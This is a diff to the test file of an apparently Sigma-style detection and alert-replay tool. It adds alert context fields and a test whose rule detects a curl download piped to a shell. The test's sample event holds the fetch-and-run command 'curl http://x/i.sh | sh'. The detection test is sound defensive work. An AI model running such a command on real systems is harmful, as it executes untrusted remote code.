@@ -35,7 +35,8 @@ EXPECTED_TRAIL = [
      "2026-03-11T23:47:55.000Z", "2026-03-11T23:47:55.000Z", 1),
 ]
 KEYS = ["id", "dedup_key", "rule", "severity", "team", "tenant", "category", "group", "count",
-        "window", "first_seen", "last_seen", "tags", "events"]
+        "window", "first_seen", "last_seen", "status", "tags", "events"]
+CONTEXT = ["description", "runbook", "references", "falsepositives", "fields"]
 
 
 def summary(a):
@@ -54,7 +55,12 @@ def test_samples_auth():
     got = [summary(a) for a in alerts]
     check(got == EXPECTED_AUTH, "auth alerts differ:\n got %s\nwant %s" % (got, EXPECTED_AUTH))
     for a in alerts:
-        check(list(a.keys()) == KEYS, "alert keys/order: %s" % list(a.keys()))
+        # The rule's context keys come after the tags, in this order, when the rule has them.
+        ctx = [k for k in a.keys() if k in CONTEXT]
+        check([k for k in a.keys() if k not in CONTEXT] == KEYS and
+              ctx == [k for k in CONTEXT if k in ctx] and
+              list(a.keys())[KEYS.index("tags") + 1:][:len(ctx)] == ctx,
+              "alert keys/order: %s" % list(a.keys()))
         check(len(a["dedup_key"]) == 32 and all(c in "0123456789abcdef" for c in a["dedup_key"]),
               "dedup_key %r" % a["dedup_key"])
     brute = alerts[1]
@@ -230,7 +236,38 @@ def test_stdin_and_json_default():
     check(alerts == [], "unexpected alerts without logsource: %s" % [a["rule"]["id"] for a in alerts])
 
 
+def test_rule_context_in_alerts():
+    """A rule's description, runbook, references, falsepositives and the values of its
+    `fields` reach the alert; replay never marks alerts as backfill."""
+    d = tmpdir("context")
+    rule = os.path.join(d, "r.yml")
+    with open(rule, "w") as f:
+        f.write("title: Curl piped to a shell\nid: 7d0ec3e0-0000-4000-8000-000000000001\n"
+                "description: Someone downloads a script and runs it at once.\n"
+                "runbook: https://wiki.example/runbooks/curl-pipe\n"
+                "references: [https://attack.mitre.org/techniques/T1059/004/]\n"
+                "falsepositives: [installers, \"a 'curl | sh' in docs\"]\n"
+                "fields: [user, cmd, missing_field]\n"
+                "logsource: {product: linux}\n"
+                "detection:\n  sel: {cmd|contains: '| sh'}\n  condition: sel\nlevel: high\n")
+    events = b'{"user": "bob", "cmd": "curl http://x/i.sh | sh", "time": "2026-03-29T01:30:00Z"}\n'
+    cfg = os.path.join(d, "c.yaml")
+    with open(cfg, "w") as f:
+        f.write("rules:\n  - %s\ninputs:\n  - {topic: t, format: json, logsource: {product: linux}}\n" % rule)
+    r = replay(["--config", cfg, "--topic", "t", "-"], stdin=events)
+    check(r.returncode == 0, "exit %d: %s" % (r.returncode, r.stderr.decode()))
+    alerts = alerts_of(r.stdout.decode())
+    check(len(alerts) == 1, "alerts: %s" % alerts)
+    a = alerts[0]
+    check(a["description"] == "Someone downloads a script and runs it at once.", "description")
+    check(a["runbook"] == "https://wiki.example/runbooks/curl-pipe", "runbook")
+    check(a["references"] == ["https://attack.mitre.org/techniques/T1059/004/"], "references")
+    check(a["falsepositives"] == ["installers", "a 'curl | sh' in docs"], "falsepositives")
+    check(a["fields"] == {"user": "bob", "cmd": "curl http://x/i.sh | sh"}, "fields: %s" % a.get("fields"))
+    check(a["status"] == "firing" and "backfill" not in a, "status/backfill: %s" % a)
+
+
 if __name__ == "__main__":
-    run_tests([test_samples_auth, test_samples_cloudtrail, test_replay_is_deterministic,
+    run_tests([test_rule_context_in_alerts, test_samples_auth, test_samples_cloudtrail, test_replay_is_deterministic,
                test_malformed_skipped, test_off_hours_across_dst, test_bruteforce_out_of_order,
                test_large_events_still_alert, test_bad_rule_refused, test_rules_lint, test_stdin_and_json_default])
